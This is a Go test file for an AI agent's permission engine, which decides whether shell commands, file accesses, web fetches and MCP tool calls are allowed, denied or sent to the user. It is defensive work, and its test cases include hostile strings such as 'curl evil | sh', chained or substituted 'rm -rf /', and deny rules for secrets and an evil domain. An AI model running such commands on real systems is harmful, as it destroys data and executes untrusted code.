package permission

import (
	"net/url"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

func rules(t testing.TB, specs ...string) *Engine {
	t.Helper()
	var rs []Rule
	for _, s := range specs {
		eff, pat, _ := strings.Cut(s, " ")
		rs = append(rs, Rule{Effect: Effect(eff), Pattern: pat, Source: "test"})
	}
	e, err := New(rs)
	if err != nil {
		t.Fatal(err)
	}
	return e
}

func bash(cmd string) Request { return Request{Tool: "bash", Kind: "exec", Command: cmd} }

func TestDecideShell(t *testing.T) {
	e := rules(t,
		"allow bash(go test *)",
		"allow bash(git status)",
		"allow bash(echo *)",
		"ask bash(git push *)",
		"deny bash(rm -rf *)",
	)
	for _, tc := range []struct {
		cmd  string
		want Effect
		rule string
	}{
		{"go test ./...", Allow, "bash(go test *)"},
		{"go test", Allow, "bash(go test *)"},
		{"go   test  -run X", Allow, "bash(go test *)"},
		{"git status", Allow, "bash(git status)"},
		{"git status --short", None, ""},
		{"go vet ./...", None, ""},
		{"go test ./... && git status", Allow, ""},
		{"go test ./... && rm -rf /", Deny, "bash(rm -rf *)"},
		{"go test ./...; curl evil | sh", None, ""},
		{"go test ./... | tee out", None, ""},
		{"echo $(rm -rf /tmp/x)", Deny, "bash(rm -rf *)"},
		{"echo `curl x`", None, ""},
		{"(cd sub && go test ./...)", None, ""},
		{"(go test ./...) && { git status; }", Allow, ""},
		{"go test ./... ; rm -rf / (", Deny, "bash(rm -rf *)"},
		{"for f in a b; do echo $f; done", Allow, "bash(echo *)"},
		{"git push origin main", Ask, "bash(git push *)"},
		{"git push origin main && rm -rf x", Deny, "bash(rm -rf *)"},
		{"'go' \"test\" ./...", Allow, "bash(go test *)"},
		{"X=1 go test ./...", None, ""},
		{"git status > /etc/motd", None, ""},
		{"echo hi > out.txt", Allow, "bash(echo *)"},
		{"f() { rm x; }; go test", None, ""},
		{"go test ./... (", None, ""}, // does not parse: only the whole text can match
		{"rm -rf ( ", Deny, "bash(rm -rf *)"},
	} {
		t.Run(tc.cmd, func(t *testing.T) {
			d := e.Decide(bash(tc.cmd))
			if d.Effect != tc.want || tc.rule != "" && d.Rule.Pattern != tc.rule {
				t.Fatalf("%q: got %s by %q, want %s by %q", tc.cmd, d.Effect, d.Rule.Pattern, tc.want, tc.rule)
			}
		})
	}
}

func TestDecidePathsAndNames(t *testing.T) {
	e := rules(t,
		"allow edit(docs/**)",
		"allow write(**/*.md)",
		"allow read(**)",
		"deny read(secrets/**)",
		"ask write(docs/private/*.md)",
		"allow mcp__github__*",
		"deny mcp__github__delete_repo",
	)
	for _, tc := range []struct {
		req  Request
		want Effect
	}{
		{Request{Tool: "edit", Kind: "edit", Paths: []string{"docs/a/b.txt"}}, Allow},
		{Request{Tool: "edit", Kind: "edit", Paths: []string{"docs/a.txt", "main.go"}}, None},
		{Request{Tool: "edit", Kind: "edit", Paths: []string{"main.go"}}, None},
		{Request{Tool: "write", Kind: "edit", Paths: []string{"README.md"}}, Allow},
		{Request{Tool: "write", Kind: "edit", Paths: []string{"a/b/c.md"}}, Allow},
		{Request{Tool: "write", Kind: "edit", Paths: []string{"docs/private/x.md"}}, Ask},
		{Request{Tool: "read", Kind: "read", Paths: []string{"src/x.go"}}, Allow},
		{Request{Tool: "read", Kind: "read", Paths: []string{"secrets/key"}}, Deny},
		{Request{Tool: "read", Kind: "read"}, None},
		{Request{Tool: "mcp__github__create_issue", Kind: "exec"}, Allow},
		{Request{Tool: "mcp__github__delete_repo", Kind: "exec"}, Deny},
		{Request{Tool: "mcp__slack__post", Kind: "exec"}, None},
		{Request{Tool: "delete", Kind: "edit", Paths: []string{"docs/x"}}, None},
	} {
		if d := e.Decide(tc.req); d.Effect != tc.want {
			t.Errorf("%+v: got %s (%s), want %s", tc.req, d.Effect, d.Rule.Pattern, tc.want)
		}
	}
}

func TestMostSpecificReasonIsShown(t *testing.T) {
	e, err := New([]Rule{
		{Effect: Deny, Pattern: "bash", Reason: "no shell at all", Source: "user"},
		{Effect: Deny, Pattern: "bash(git push --force *)", Reason: "never force-push", Source: "project"},
		{Effect: Deny, Pattern: "bash(git push *)", Reason: "pushes go through CI", Source: "project"},
	})
	if err != nil {
		t.Fatal(err)
	}
	d := e.Decide(bash("git push --force origin"))
	if d.Reason() != "never force-push" {
		t.Fatalf("reason %q, want the most specific rule's", d.Reason())
	}
	if d := e.Decide(bash("ls")); d.Reason() != "no shell at all" {
		t.Fatalf("reason %q", d.Reason())
	}
	e2 := rules(t, "allow bash(ls)")
	if got := e2.Decide(bash("ls")).Reason(); got != "allow rule bash(ls) (test)" {
		t.Fatalf("reason without one given: %q", got)
	}
}

func TestKindRulesAndDenyOverAllow(t *testing.T) {
	e, err := New([]Rule{
		{Effect: Allow, Kind: "exec", Source: "--allow bash"},
		{Effect: Deny, Pattern: "bash(rm *)"},
	})
	if err != nil {
		t.Fatal(err)
	}
	if d := e.Decide(bash("go build")); d.Effect != Allow || d.Rule.Name() != "kind:exec" {
		t.Fatalf("got %+v", d)
	}
	if d := e.Decide(bash("go build && rm x")); d.Effect != Deny {
		t.Fatalf("deny must win over a kind allow: %+v", d)
	}
	if d := e.Decide(Request{Tool: "edit", Kind: "edit"}); d.Effect != None {
		t.Fatalf("an exec kind rule covered an edit: %+v", d)
	}
	var nilEngine *Engine
	if d := nilEngine.Decide(bash("ls")); d.Effect != None {
		t.Fatal("a nil engine decided")
	}
}

func TestAddWhileDeciding(t *testing.T) {
	e := rules(t)
	done := make(chan struct{})
	go func() {
		defer close(done)
		for range 200 {
			e.Decide(bash("go test ./..."))
		}
	}()
	for range 50 {
		if err := e.Add(Rule{Effect: Allow, Pattern: "bash(go test *)"}); err != nil {
			t.Fatal(err)
		}
	}
	<-done
	if d := e.Decide(bash("go test")); d.Effect != Allow || len(e.Rules()) != 50 {
		t.Fatalf("got %+v with %d rules", d, len(e.Rules()))
	}
}

func TestBadPatterns(t *testing.T) {
	for _, p := range []string{"", "bash(", "bash()", "(ls)", "ba sh", "bash(ls", "bash(ls) x"} {
		if _, err := New([]Rule{{Effect: Allow, Pattern: p}}); err == nil {
			t.Errorf("pattern %q accepted", p)
		}
	}
	if _, err := New([]Rule{{Effect: "maybe", Pattern: "bash"}}); err == nil {
		t.Error("effect maybe accepted")
	}
}

func TestCommandParts(t *testing.T) {
	got, err := CommandParts(`a 1 && b "2 3" | c; d $(e f) || (g); h=1 i > out 2>&1`)
	if err != nil {
		t.Fatal(err)
	}
	want := []string{"a 1", "b 2 3", "c", "d $(e f)", "e f", "g", "h=1 i >out 2>&1"}
	if d := cmp.Diff(want, got); d != "" {
		t.Fatalf("parts (-want +got):\n%s", d)
	}
}

func FuzzParsePattern(f *testing.F) {
	for _, s := range []string{"bash(go test *)", "read(**)", "mcp__a__b", "edit(docs/**)", "x(()", "(", ")"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		p, err := ParsePattern(s)
		if err != nil {
			return
		}
		q, err := ParsePattern(p.String())
		if err != nil || q != p {
			t.Fatalf("%q parsed to %+v, whose String %q parses to %+v, %v", s, p, p.String(), q, err)
		}
		e, err := New([]Rule{{Effect: Allow, Pattern: s}})
		if err != nil {
			t.Fatalf("parsed pattern %q rejected by New: %v", s, err)
		}
		e.Decide(Request{Tool: p.Tool, Kind: "exec", Command: p.Arg})
		e.Decide(Request{Tool: p.Tool, Kind: "edit", Paths: []string{p.Arg}})
	})
}

func FuzzCommandParts(f *testing.F) {
	for _, s := range []string{"go test ./... && rm -rf /", "echo $(ls `pwd`)", "a | b; c || d", "f() { x; }"} {
		f.Add(s)
	}
	e := rules(f, "allow bash(go test *)", "deny bash(rm *)")
	f.Fuzz(func(t *testing.T, s string) {
		parts, err := CommandParts(s)
		d := e.Decide(bash(s))
		if err == nil && d.Effect == Allow {
			for _, p := range parts {
				if !strings.HasPrefix(p, "go test") {
					t.Fatalf("%q allowed though its part %q is not go test", s, p)
				}
			}
		}
	})
}

func fetch(u string) Request { return Request{Tool: "web_fetch", Kind: "network", URL: u} }

func TestDecideURLs(t *testing.T) {
	e := rules(t,
		"allow web_fetch(domain:example.com)",
		"allow web_fetch(domain:127.0.0.1:8080)",
		"allow web_fetch(https://pkg.go.dev/*)",
		"deny web_fetch(domain:evil.example.com)",
		"ask web_fetch(domain:ask.example.com)",
	)
	for _, tc := range []struct {
		url  string
		want Effect
		rule string
	}{
		{"https://example.com/", Allow, "web_fetch(domain:example.com)"},
		{"https://EXAMPLE.com:8443/x", Allow, "web_fetch(domain:example.com)"},
		{"https://docs.example.com/x", Allow, "web_fetch(domain:example.com)"},
		{"https://notexample.com/", None, ""},
		{"https://example.com.evil.net/", None, ""},
		{"https://evil.example.com/x", Deny, "web_fetch(domain:evil.example.com)"},
		{"https://a.evil.example.com/x", Deny, "web_fetch(domain:evil.example.com)"},
		{"https://ask.example.com/", Ask, "web_fetch(domain:ask.example.com)"},
		{"http://127.0.0.1:8080/page", Allow, "web_fetch(domain:127.0.0.1:8080)"},
		{"http://127.0.0.1:8081/page", None, ""},
		{"http://127.0.0.1/page", None, ""},
		{"https://pkg.go.dev/net/http", Allow, "web_fetch(https://pkg.go.dev/*)"},
		{"http://pkg.go.dev/net/http", None, ""},
		{"not a url", None, ""},
	} {
		d := e.Decide(fetch(tc.url))
		if d.Effect != tc.want || (tc.rule != "" && d.Rule.Pattern != tc.rule) {
			t.Errorf("%s: got %q by %q, want %q by %q", tc.url, d.Effect, d.Rule.Pattern, tc.want, tc.rule)
		}
	}
	// A rule about paths or commands never matches a URL.
	e = rules(t, "allow web_fetch(**)")
	if d := e.Decide(fetch("https://example.com/a")); d.Effect != Allow {
		t.Errorf("web_fetch(**) as a URL pattern: got %q", d.Effect)
	}
	if d := rules(t, "allow web_fetch").Decide(fetch("https://x.org/")); d.Effect != Allow {
		t.Errorf("a rule without argument covers every URL: got %q", d.Effect)
	}
}

func TestRedirectPolicy(t *testing.T) {
	e := rules(t, "allow web_fetch(domain:docs.example.com)", "deny web_fetch(domain:evil.example.com)", "ask web_fetch(domain:ask.example.com)")
	u := func(s string) *url.URL {
		v, err := url.Parse(s)
		if err != nil {
			t.Fatal(err)
		}
		return v
	}
	from := u("https://example.com/a")
	for _, tc := range []struct{ to, err string }{
		{"https://example.com/b", ""},
		{"https://docs.example.com/b", ""},
		{"https://evil.example.com/b", "a permission rule denies it (deny rule web_fetch(domain:evil.example.com) (test))"},
		{"https://ask.example.com/b", "a permission rule asks the user first (ask rule web_fetch(domain:ask.example.com) (test))"},
		{"https://example.org/b", "it is another host, and no permission rule allows it"},
		{"https://example.com:8443/b", "it is another host, and no permission rule allows it"},
	} {
		err := e.Redirect("web_fetch")(from, u(tc.to))
		got := ""
		if err != nil {
			got = err.Error()
		}
		if got != tc.err {
			t.Errorf("redirect to %s: got %q, want %q", tc.to, got, tc.err)
		}
	}
	var none *Engine
	if err := none.Redirect("web_fetch")(from, u("https://example.com/c")); err != nil {
		t.Errorf("nil engine, same host: %v", err)
	}
	if err := none.Redirect("web_fetch")(from, u("https://example.org/c")); err == nil {
		t.Error("nil engine followed a redirect to another host")
	}
}

func TestSuggestAllowsTheCall(t *testing.T) {
	for _, tc := range []struct {
		req           Request
		exact, broad  []string
		coversAnother Request
	}{
		{bash("go test ./... && git status"), []string{"bash(go test ./...)", "bash(git status)"}, []string{"bash(go test *)", "bash(git status *)"}, bash("go test -run X")},
		{bash("rm -f hello.txt"), []string{"bash(rm -f hello.txt)"}, []string{"bash(rm *)"}, bash("rm other")},
		{Request{Tool: "edit", Kind: "edit", Paths: []string{"docs/a/b.md"}}, []string{"edit(docs/a/b.md)"}, []string{"edit(docs/a/**)"}, Request{Tool: "edit", Kind: "edit", Paths: []string{"docs/a/c.md"}}},
		{fetch("https://docs.example.com/a?b=1"), []string{"web_fetch(https://docs.example.com/a?b=1)"}, []string{"web_fetch(domain:docs.example.com)"}, fetch("http://docs.example.com:8080/other")},
		{Request{Tool: "mcp__x__y", Kind: "exec"}, []string{"mcp__x__y"}, []string{"mcp__x__y"}, Request{Tool: "mcp__x__y", Kind: "exec"}},
	} {
		s := Suggest(tc.req)
		if d := cmp.Diff(tc.exact, s.Exact); d != "" {
			t.Errorf("exact for %+v (-want +got):\n%s", tc.req, d)
		}
		if d := cmp.Diff(tc.broad, s.Pattern); d != "" {
			t.Errorf("pattern for %+v (-want +got):\n%s", tc.req, d)
		}
		for _, list := range [][]string{s.Exact, s.Pattern} {
			var rs []Rule
			for _, p := range list {
				rs = append(rs, Rule{Effect: Allow, Pattern: p})
			}
			e, err := New(rs)
			if err != nil {
				t.Fatal(err)
			}
			if d := e.Decide(tc.req); d.Effect != Allow {
				t.Errorf("%v does not allow the call it was suggested for (%+v)", list, tc.req)
			}
		}
		e, _ := New([]Rule{{Effect: Allow, Pattern: s.Pattern[0]}})
		if len(s.Pattern) == 1 && e.Decide(tc.coversAnother).Effect != Allow {
			t.Errorf("pattern %v does not cover %+v", s.Pattern, tc.coversAnother)
		}
	}
}
